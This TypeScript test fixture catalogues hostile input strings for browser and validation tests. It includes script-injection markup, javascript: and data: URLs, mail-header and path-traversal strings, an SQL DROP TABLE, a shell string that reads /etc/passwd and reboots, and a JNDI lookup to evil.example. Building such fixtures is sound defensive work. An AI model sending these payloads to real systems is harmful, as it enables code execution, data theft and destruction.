import { tidyText } from '@site/contract/shared/tidy';

/** The global variable that a payload sets when a browser executes it. Browser tests check this variable. */
export const executedMark = 'hostileTextWasExecuted';

const act = `window.${executedMark}=1`;

/** Texts of an attacker, or of an unusual keyboard. Each one stands for a way in which a text has done harm somewhere. */
export const hostileTexts = {
  'scripts and markup': [
    `<script>${act}</script>`,
    `"><img src=x onerror=${act}>`,
    `'><svg/onload=${act}>`,
    `</title></textarea></style></script><script>${act}</script>`,
    `<iframe srcdoc="<script>parent.${executedMark}=1</script>"></iframe>`,
    `<a href="javascript:${act}">details</a>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
    `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    `<link rel=stylesheet href=//evil.example/a.css><style>*{display:none}</style>`,
    `<img src="https://evil.example/pixel.gif" width=1>`,
    `{{constructor.constructor('${act}')()}}`,
    `\${${act}}`,
    `'-${act}-'`,
    '<!-- --!> ]]> &lt;b&gt; &amp;amp; &#x3c;',
    'a < b && c > d, "e" and \'f\'',
  ],
  addresses: [
    `javascript:${act}`,
    `JaVaScRiPt:${act}//https://example.org`,
    `java\nscript:${act}`,
    `\u0001javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    '//evil.example/a',
    'https://',
    'https:evil.example',
    'https://good.example\\@evil.example',
    'https://user:password@evil.example/',
    'https://[::1]:8080/',
    `https://evil.example/"onmouseover="${act}`,
    `https://evil.example/'><script>${act}</script>`,
    'https://ex\u0430mple.org/',
    'https://example.org/\u202efdp.exe',
    'https://example.org/%00%0d%0aSet-Cookie:a=b',
  ],
  Unicode: [
    'right to left \u202egnp.exe',
    '\u2066isolated\u2069 \u2067never closed',
    'zero\u200bwidth\u200d\u2060joined\u00ad',
    '\ufeffbyte order mark',
    'half a pair \ud83d and \ude00 the other half',
    'no characters \ufffe\uffff\u{1fffe}',
    `Z${'\u0301\u0316'.repeat(40)}algo`,
    '\u0410dm\u0456n',
    'e\u0301 is not \u00e9, \ufb01 is not fi, \u212b is not \u00c5',
    '\u0130stanbul \u1e9e \ufdfa',
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f3fd}',
    '\u{e0001}\u{e0041}tagged\u{e007f}',
    'line\u2028separator paragraph\u2029separator next\u0085line',
    'null\u0000 bell\u0007 escape\u001b[31m delete\u007f',
    '\u00a0 \u3000 ',
    '\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660',
    '\uff11\uff12\uff13',
  ],
  // A vowel sign is both a letter of its script and a mark. An expression must not be able to read it in both ways.
  'names of letters and marks': [
    '\u0915\u093e\u093f',
    '\u0627\u0610\u0611',
    '\u0b95\u0bbe\u0bbf',
    '\u05d0\u05b0\u05b1',
  ].map((syllable) => `${syllable.repeat(8)} ${syllable.repeat(8)}!`),
  'mail headers': [
    'Asha\r\nBcc: everybody@evil.example',
    'Asha\nBcc: everybody@evil.example',
    'Asha\rBcc: everybody@evil.example',
    'Asha\r\n\r\n<h1>Another body</h1>',
    'Asha%0d%0aBcc: everybody@evil.example',
    '=?utf-8?q?=0D=0ABcc:_everybody=40evil.example?=',
    '"Asha" <other@evil.example>, <more@evil.example>',
    'asha@example.org,more@evil.example',
    'asha@example.org\r\nRCPT TO:<more@evil.example>',
    'Undisclosed recipients:;',
    '.\r\n.\r\nQUIT',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd\u0000.pdf',
    '%2e%2e%2f%2e%2e%2f',
    'job-pdfs/../secret.pdf',
    'CON',
    '.',
    '..',
    '__proto__',
    'constructor',
    '__name__',
    'a/b',
    '.hidden.pdf.exe',
  ],
  'other languages': [
    "' OR 1=1; DROP TABLE jobs; --",
    '$(id) `id` | cat /etc/passwd; && reboot',
    `\${jndi:ldap://evil.example/a}`,
    '=HYPERLINK("https://evil.example","click")',
    '%s%n%x%d {0} $1 $& $`',
    '{"$gt":""}',
    '(a+)+$',
    'NaN',
    '-0',
    '1e999',
    'undefined',
  ],
  size: [
    'x'.repeat(50_000),
    '\u{1d11e}'.repeat(25_000),
    `a${'\u0301'.repeat(49_999)}`,
    '\n'.repeat(50_000),
    '<'.repeat(50_000),
  ],
} as const satisfies Record<string, readonly string[]>;

export const allHostileTexts: readonly string[] = Object.values(hostileTexts).flat();

/** Values that are not a string, for fields that take a string. */
export const hostileValues: readonly unknown[] = [
  null,
  0,
  -1,
  1e308,
  true,
  [],
  {},
  ['x'],
  [['x']],
  { toString: 'x' },
  { length: 5, 0: 'x' },
  JSON.parse('{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}'),
  Array.from({ length: 1000 }, () => null),
  JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`),
];

/** Gives a text in its stored form: lone surrogates are replaced, and the ends have no spaces or invisible characters. */
export function normalForm(text: string): string {
  return tidyText(text.toWellFormed());
}

/** Gives the stored form of a text from a multipart form, which also normalises line breaks. */
export function normalFormOfForm(text: string): string {
  return normalForm(text.replaceAll(/\r\n?/g, '\n'));
}
